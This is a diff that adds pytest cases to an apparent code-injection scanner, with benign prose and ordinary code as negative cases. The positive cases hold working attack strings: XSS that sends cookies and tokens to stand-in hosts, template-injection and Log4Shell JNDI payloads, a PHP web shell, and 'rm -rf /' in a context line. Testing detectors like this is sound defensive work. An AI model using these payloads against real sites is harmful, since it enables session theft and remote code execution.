@@ -65,3 +65,44 @@ def test_rm_on_root_scores_higher_than_rm_on_a_build_dir():
     (root,) = scan("rm -rf /", ["code_injection"])
     (build,) = scan("rm -rf build/", ["code_injection"])
     assert root.score > build.score >= 0.5
+
+
+@pytest.mark.parametrize(
+    "text, kind",
+    [
+        ("<script>fetch('https://evil.example/c?'+document.cookie)</script>", "xss"),
+        ("<script>new Image().src='//x.example/l?'+localStorage.getItem('token')</script>",
+         "xss"),
+        ("<img src=x onerror=\"fetch('//x.example/?'+document.cookie)\">", "xss"),
+        ("<svg onload=alert(1)>", "xss"),
+        ('<a href="javascript:alert(document.domain)">click</a>', "xss"),
+        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "template_injection"),
+        ("{{ config.items() }}", "template_injection"),
+        ("User-Agent: ${jndi:ldap://x.example:1389/a}", "template_injection"),
+        ("${${lower:j}${lower:n}di:ldap://x.example/a}", "template_injection"),
+        ("#{T(java.lang.Runtime).getRuntime().exec('id')}", "template_injection"),
+        ('<?php echo shell_exec($_GET["cmd"]); ?>', "web_shell"),
+    ],
+)
+def test_code_that_does_something_is_found(text, kind, kinds):
+    """Issue 31: code that would run in a page, a template engine or a server."""
+    assert kind in kinds(text, "code_injection")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Our docs explain why eval() on untrusted input is dangerous.",
+        "Never call eval(user_input) on data that came from the network.",
+        "The handler then passes the name to os.system(cmd), which is why it was reported.",
+        "Avoid subprocess.run() with shell=True unless the arguments are constants.",
+        '<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>',
+        "<script>fetch('/api/items').then(r => r.json()).then(render)</script>",
+        "Cookies set with HttpOnly cannot be read by document.cookie in a script.",
+        "Hello {{ user.name }}, your order {{ order.id }} has shipped.",
+        "The price is ${total} including ${tax} of tax.",
+        "Cross-site scripting (XSS) lets an attacker run script in a victim's page.",
+    ],
+)
+def test_prose_and_ordinary_code_are_not_flagged(text, kinds):
+    assert kinds(text, "code_injection") == set()
